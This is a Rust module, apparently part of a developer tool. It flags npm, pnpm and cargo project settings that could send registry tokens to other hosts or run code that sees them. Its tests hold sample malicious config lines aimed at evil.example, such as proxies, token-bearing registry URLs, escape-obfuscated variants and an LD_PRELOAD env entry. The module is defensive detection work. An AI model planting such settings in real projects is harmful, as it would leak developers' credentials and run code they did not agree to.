//! Settings of a project that decide where the tokens of package registries go.
//!
//! A token of npm's is bound to a host by the user's own settings, and a project can't change that. But a project can name a
//! host for a token that is in a variable, or another place for a registry of cargo's, and it can put a proxy in between. What
//! is not known to be harmless is an obstacle.

use std::fs;
use std::io::Read;
use std::path::{Path, PathBuf};

use toml::{Table, Value};

/// Larger files are not looked into.
const MAX_REGISTRY_SETTINGS_BYTES: u64 = 256 << 10;

/// Settings of npm, and of pnpm, which reads the same files, that run nothing and lead nowhere. A star stands for the rest.
const HARMLESS_NPM_SETTINGS: &[&str] = &[
    "registry",
    "@*",
    "always-auth",
    "save*",
    "engine-strict",
    "package-lock*",
    "lockfile*",
    "fund",
    "audit*",
    "legacy-peer-deps",
    "strict-peer-*",
    "auto-install-peers",
    "dedupe-*",
    "loglevel",
    "progress",
    "ignore-scripts",
    "omit*",
    "include*",
    "optional",
    "production",
    "tag*",
    "prefer-*",
    "update-notifier",
    "access",
    "provenance",
    "workspaces*",
    "workspace-*",
    "install-strategy",
    "install-links",
    "link-workspace-packages",
    "hoist*",
    "shamefully-hoist",
    "public-hoist-pattern*",
    "resolution-mode",
    "node-linker",
    "node-version",
    "use-node-version",
    "side-effects-cache*",
    "color",
    "unicode",
    "fetch-retr*",
    "fetch-timeout",
    "maxsockets",
    "network-concurrency",
    "message",
    "sign-git-*",
    "git-tag-version",
    "init-*",
    "init.*",
    "offline",
    "package-import-method",
    "enable-pre-post-scripts",
    "recursive-install",
    "ignore-workspace-root-check",
    "replace-registry-host",
    "min-release-age",
    "yes",
    "timing",
    "usage",
    "depth",
    "global-style",
    "legacy-bundling",
    "bin-links",
    "rebuild-bundle",
    "foreground-scripts",
];

/// What can be said of a registry behind its host: who the user is there.
const NPM_HOST_SETTINGS: [&str; 6] = ["_authToken", "_auth", "_password", "username", "email", "always-auth"];

/// Tables of cargo's settings in which nothing runs when packages are fetched, whatever they say. The compiler is named by us.
const HARMLESS_CARGO_TABLES: [&str; 15] = [
    "alias",
    "build",
    "cache",
    "cargo-new",
    "doc",
    "future-incompat-report",
    "install",
    "patch",
    "paths",
    "profile",
    "resolver",
    "source",
    "target",
    "term",
    "net",
];
const HARMLESS_CARGO_HTTP_SETTINGS: [&str; 5] =
    ["timeout", "multiplexing", "low-speed-limit", "user-agent", "check-revoke"];
/// How variables begin that the compiler or its loader obeys.
const OBEYED_VARIABLE_PREFIXES: [&str; 8] =
    ["LD_", "DYLD_", "RUST", "CARGO", "GLIBC", "GCONV", "PATH", "HOME"];

/// What in a project's settings of npm could send tokens elsewhere.
pub(crate) fn obstacle_for_npm(folder: &Path, root: &Path, home: &Path) -> Option<String> {
    let own = read(&home.join(".npmrc")).unwrap_or_default();
    let known: Vec<&str> = settings(&own).filter_map(|(name, value)| host_in(name, value)).collect();
    files(folder, root, &[".npmrc", "package.json"]).into_iter().find_map(|path| {
        let shown = path.strip_prefix(root).unwrap_or(&path).display().to_string();
        if path.ends_with("package.json") {
            return publishing_obstacle(&path).map(|what| format!("the project's {shown} {what}"));
        }
        let Some(text) = read(&path) else { return Some(format!("the project's {shown} can't be read")) };
        settings(&text).find_map(|(name, value)| {
            npm_setting(name, value, &known).map(|what| format!("the project's {shown} {what}"))
        })
    })
}

/// What in a `package.json` could send a token elsewhere: what it says for publishing is obeyed like settings.
fn publishing_obstacle(path: &Path) -> Option<String> {
    const HARMLESS: [&str; 14] = [
        "access",
        "tag",
        "registry",
        "provenance",
        "directory",
        "linkDirectory",
        "executableFiles",
        "main",
        "module",
        "types",
        "typings",
        "exports",
        "browser",
        "bin",
    ];
    let Some(text) = read(path) else { return Some("can't be read".to_owned()) };
    let settings: serde_json::Value = match serde_json::from_str(text.trim_start_matches('\u{feff}')) {
        Ok(settings) => settings,
        Err(_) => return Some("can't be read".to_owned()),
    };
    let publishing = settings.get("publishConfig")?.as_object()?;
    let is_harmless =
        |name: &str| HARMLESS.contains(&name) || name.starts_with('@') && name.ends_with(":registry");
    let (name, _) = publishing.iter().find(|(name, value)| {
        !is_harmless(name) || value.as_str().is_some_and(|value| value.contains("${"))
    })?;
    Some(format!("has `publishConfig.{name}`"))
}

fn npm_setting(name: &str, value: &str, known: &[&str]) -> Option<String> {
    // What is written with escapes is another text once npm has read it, and so is a name with a variable in it.
    if name.contains('\\') || value.contains('\\') || !name.starts_with("//") && name.contains("${") {
        return Some(format!("has `{name}`, written with escapes or variables"));
    }
    let has_variable = value.contains("${");
    if let Some(rest) = name.strip_prefix("//") {
        let host = rest.split('/').next().unwrap_or_default();
        let is_who = rest.rsplit_once(':').is_some_and(|(_, what)| NPM_HOST_SETTINGS.contains(&what));
        // Where the user's own settings name registries, variables are for those.
        let is_known = known.is_empty() || known.contains(&host) || host == "registry.npmjs.org";
        return match (is_who && !rest.contains("${"), has_variable && !is_known) {
            (false, _) => Some(format!("has `{name}`")),
            (true, true) => Some(format!(
                "sends {value} to {host}, which the user's ~/.npmrc does not name (`//{host}/:_authToken={value}` there would)"
            )),
            (true, false) => None,
        };
    }
    let is_listed = HARMLESS_NPM_SETTINGS.iter().any(|known| match known.strip_suffix('*') {
        Some(start) => name.starts_with(start),
        None => *known == name,
    });
    // Those with such a line in their names are nobody's but the packages' own: `sass_binary_site`.
    let is_of_package = name.contains('_')
        && !name.starts_with('_')
        && name.chars().all(|letter| letter.is_ascii_lowercase() || letter.is_ascii_digit() || letter == '_');
    ((!is_listed && !is_of_package) || has_variable).then(|| format!("has `{name}`"))
}

/// The host that a setting of npm is about.
fn host_in<'a>(name: &'a str, value: &'a str) -> Option<&'a str> {
    let is_registry = name == "registry" || name.ends_with(":registry");
    let of_value = || value.split_once("://").filter(|_| is_registry).map(|(_, rest)| rest);
    let rest = name.strip_prefix("//").or_else(of_value)?;
    let host = rest.split('/').next()?;
    Some(host.rsplit('@').next().unwrap_or(host))
}

/// The variables that a file of npm's settings names.
pub(crate) fn variables_in(path: &Path) -> Vec<String> {
    let text = read(path).unwrap_or_default();
    let names = text.split("${").skip(1).filter_map(|rest| rest.split_once('}'));
    names.map(|(name, _)| name.trim_end_matches('?').to_owned()).collect()
}

/// Whether a file of npm's settings tells who the user is by itself. A variable that it names is none of its own.
pub(crate) fn npm_line_is_harmless(line: &str) -> bool {
    let value = line.split_once('=').map(|(_, value)| unquoted(value)).unwrap_or_default();
    let name = value.strip_prefix("${").and_then(|rest| rest.strip_suffix('}'));
    name.is_some_and(|name| {
        name.chars().all(|letter| letter.is_ascii_alphanumeric() || "_?".contains(letter))
    })
}

/// The settings of a file of npm's, as pairs.
fn settings(text: &str) -> impl Iterator<Item = (&str, &str)> {
    // To npm, each of them ends a line.
    let lines = text.trim_start_matches('\u{feff}').split(['\n', '\r']).map(str::trim);
    let lines = lines.filter(|line| !line.is_empty() && !line.starts_with(['#', ';']));
    lines.map(|line| {
        let (name, value) = line.split_once('=').unwrap_or((line, ""));
        (unquoted(name).trim_end_matches("[]"), unquoted(value))
    })
}

fn unquoted(text: &str) -> &str {
    text.trim().trim_matches(['"', '\''])
}

/// What in a project's settings of cargo could send tokens elsewhere, or run something that sees them.
pub(crate) fn obstacle_for_cargo(folder: &Path, root: &Path, home: &Path) -> Option<String> {
    let moved = std::env::var_os("CARGO_HOME").map(PathBuf::from);
    let own = [moved, Some(home.join(".cargo"))].into_iter().flatten();
    let own: Vec<PathBuf> =
        own.flat_map(|folder| ["config.toml", "config"].map(|name| folder.join(name))).collect();
    let users: Vec<Table> = own.iter().filter_map(|path| read(path)?.parse().ok()).collect();
    let names = [".cargo/config.toml", ".cargo/config"];
    let of_project = files(folder, root, &names).into_iter().filter(|path| !own.contains(path));
    { of_project }.find_map(|path| {
        let shown = path.strip_prefix(root).unwrap_or(&path).display().to_string();
        let settings = read(&path).and_then(|text| text.parse::<Table>().ok());
        let Some(settings) = settings else { return Some(format!("the project's {shown} can't be read")) };
        settings.iter().find_map(|(name, value)| {
            cargo_setting(name, value, &users).map(|what| format!("the project's {shown} {what}"))
        })
    })
}

fn cargo_setting(name: &str, value: &Value, users: &[Table]) -> Option<String> {
    let Some(table) = value.as_table() else {
        return (!matches!(name, "paths")).then(|| format!("has `{name}`"));
    };
    let refused = |is_fine: &dyn Fn(&str) -> bool| {
        table.keys().find(|key| !is_fine(key)).map(|key| format!("has `{name}.{key}`"))
    };
    match name {
        "http" => refused(&|key| HARMLESS_CARGO_HTTP_SETTINGS.contains(&key)),
        "env" => refused(&|key| {
            !OBEYED_VARIABLE_PREFIXES.iter().any(|start| key.to_ascii_uppercase().starts_with(start))
        }),
        "registry" => refused(&|key| key == "default"),
        "registries" => table.iter().find_map(|(registry, value)| cargo_registry(registry, value, users)),
        name if HARMLESS_CARGO_TABLES.contains(&name) => None,
        name => Some(format!("has `{name}`")),
    }
}

/// A registry that the user has named is where the user says; another one is where the project says.
fn cargo_registry(name: &str, value: &Value, users: &[Table]) -> Option<String> {
    let settings = value.as_table()?;
    if let Some(key) = settings.keys().find(|key| !matches!(key.as_str(), "index" | "token" | "protocol")) {
        return Some(format!("has `registries.{name}.{key}`"));
    }
    let index = settings.get("index")?;
    let of_user = |user: &Table| user.get("registries")?.get(name)?.get("index").cloned();
    let known = users.iter().find_map(of_user);
    let is_other = known.is_some_and(|known| known != *index) || name == "crates-io";
    is_other.then(|| format!("says that the registry `{name}` is {index}"))
}

/// The files by these names from a folder up to the project's.
fn files(folder: &Path, root: &Path, names: &[&str]) -> Vec<PathBuf> {
    let folders = folder.ancestors().take_while(|folder| folder.starts_with(root));
    let all = folders.flat_map(|folder| names.iter().map(|name| folder.join(name)));
    all.filter(|path| path.symlink_metadata().is_ok()).collect()
}

fn read(path: &Path) -> Option<String> {
    let mut text = String::new();
    let file = fs::File::open(path).ok().filter(|file| file.metadata().is_ok_and(|facts| facts.is_file()))?;
    file.take(MAX_REGISTRY_SETTINGS_BYTES + 1).read_to_string(&mut text).ok()?;
    (text.len() as u64 <= MAX_REGISTRY_SETTINGS_BYTES).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn npm(project: &str, user: &str) -> Option<String> {
        let folder = tempfile::tempdir().unwrap();
        let (root, home) = (folder.path().join("project"), folder.path().join("home"));
        fs::create_dir_all(root.join("sub")).unwrap();
        fs::create_dir_all(&home).unwrap();
        fs::write(root.join(".npmrc"), project).unwrap();
        fs::write(home.join(".npmrc"), user).unwrap();
        obstacle_for_npm(&root.join("sub"), &root, &home)
    }

    #[test]
    fn what_a_project_says_to_npm_leads_no_token_elsewhere() {
        for project in [
            "",
            "# a comment\nregistry=https://npm.example/\n@scope:registry = https://other.example\nsave-exact=true\n",
            "//npm.example/:_authToken=${NPM_TOKEN}\n",
            "sass_binary_site=https://example.com\npublic-hoist-pattern[]=*eslint*\n",
        ] {
            assert_eq!(npm(project, ""), None, "{project}");
        }
        for project in [
            "proxy=http://evil.example",
            "https-proxy=http://evil.example",
            "strict-ssl=false",
            "cafile=./evil.pem",
            "ca[]=x",
            "script-shell=./x",
            "\"script-shell\"=./x",
            "git=./x",
            "node-options=--require ./x",
            "userconfig=./x",
            "registry=http://evil.example/${NPM_TOKEN}/",
            "//npm.example/:certfile=./x",
            "//${NPM_TOKEN}.evil.example/:_authToken=x",
            "[section]",
            "_auth=x",
            "@evil:registry=\"http://evil.example/\\u0024{NPM_\\u0054OKEN}/\"",
            "@evil:registry='\"http://evil.example/\\u0024{NPM_TOKEN}/\"'",
            "\"\\u0070roxy\"=http://evil.example",
            "\"save\\u002dexact\"=true",
            "color=true\rproxy=http://evil.example",
            "save-exact=true\r\rhttps-proxy=http://evil.example\n",
            "@${NPM_TOKEN}:registry=http://evil.example",
        ] {
            assert!(npm(project, "").is_some(), "{project}");
        }
        let user = "registry=https://npm.example/\n";
        assert_eq!(npm("//npm.example/:_authToken=${NPM_TOKEN}", user), None);
        let told = npm("//evil.example/:_authToken=${NPM_TOKEN}", user).unwrap();
        assert!(told.contains("evil.example") && told.contains("~/.npmrc"), "{told}");
    }

    #[test]
    fn what_a_package_says_for_publishing_leads_no_token_elsewhere() {
        let obstacle = |text: &str| {
            let folder = tempfile::tempdir().unwrap();
            fs::write(folder.path().join("package.json"), text).unwrap();
            obstacle_for_npm(folder.path(), folder.path(), folder.path())
        };
        for text in
            ["{}", r#"{"publishConfig": {"access": "public", "@a:registry": "https://npm.example/"}}"#]
        {
            assert_eq!(obstacle(text), None, "{text}");
        }
        for text in [
            r#"{"publishConfig": {"https-proxy": "http://evil.example"}}"#,
            r#"{"publishConfig": {"httpsProxy": "http://evil.example"}}"#,
            r#"{"publish\u0043onfig": {"strict-ssl": false}}"#,
            r#"{"publishConfig": {"registry": "http://evil.example/${NPM_TOKEN}/"}}"#,
            "{",
        ] {
            assert!(obstacle(text).is_some(), "{text}");
        }
    }

    fn cargo(project: &str, user: &str) -> Option<String> {
        let folder = tempfile::tempdir().unwrap();
        let (root, home) = (folder.path().join("project"), folder.path().join("home"));
        fs::create_dir_all(root.join(".cargo")).unwrap();
        fs::create_dir_all(home.join(".cargo")).unwrap();
        fs::write(root.join(".cargo/config.toml"), project).unwrap();
        fs::write(home.join(".cargo/config.toml"), user).unwrap();
        obstacle_for_cargo(&root, &root, &home)
    }

    #[test]
    fn what_a_project_says_to_cargo_leads_no_token_elsewhere() {
        let mine = "[registries.mine]\nindex = \"sparse+https://mine.example/\"\n";
        for (project, user) in [
            ("", ""),
            ("[build]\nrustflags = ['-Cx']\n[env]\nMY = '1'\n[net]\nretry = 3\n[alias]\nx = 'run'", ""),
            (mine, ""),
            (mine, mine),
        ] {
            assert_eq!(cargo(project, user), None, "{project}");
        }
        for project in [
            "registries.mine.index = \"sparse+https://evil.example/\"",
            "registries = { \"mi\\u006ee\" = { index = 'sparse+https://evil.example/' } }",
            "[registries.mine]\ncredential-provider = './x'",
            "[registry]\nglobal-credential-providers = ['./x']",
            "[registry]\nindex = 'https://evil.example'",
            "[credential-alias]\nx = ['./x']",
            "[http]\nproxy = 'http://evil.example'",
            "[http]\ncainfo = './x'",
            "[env]\nLD_PRELOAD = './x'",
            "[unstable]\ncodegen-backend = true",
            "include = 'other.toml'",
            "what is this",
        ] {
            assert!(cargo(project, mine).is_some(), "{project}");
        }
    }
}
